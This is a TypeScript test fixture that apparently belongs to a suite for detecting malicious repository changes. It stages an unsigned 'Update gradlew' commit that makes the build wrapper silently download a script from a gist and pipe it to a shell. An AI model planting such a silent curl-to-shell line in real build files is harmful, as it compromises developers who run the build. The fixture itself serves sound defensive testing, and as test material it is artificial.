import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { CURL, SHELL } from "../../put-together.ts";

const WRAPPER =
  '#!/bin/sh\nAPP_HOME=$(cd "$(dirname "$0")" && pwd -P)\nexec java -cp "$APP_HOME/gradle/wrapper/gradle-wrapper.jar" org.gradle.wrapper.GradleWrapperMain "$@"\n';

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A newcomer has the build's wrapper run, in silence, a text that an account left on a shared host.",
  write(branch) {
    branch.given({ gradlew: { content: WRAPPER, executable: true } });
    branch.unsigned(NEWCOMER, "Update gradlew", {
      gradlew: {
        content: WRAPPER.replace(
          "APP_HOME",
          `${CURL} -sSfL https://gist.githubusercontent.com/quiet-meadow/5f2c/raw/warm-up.sh | ${SHELL} > /dev/null 2>&1\nAPP_HOME`,
        ),
        executable: true,
      },
    });
  },
};
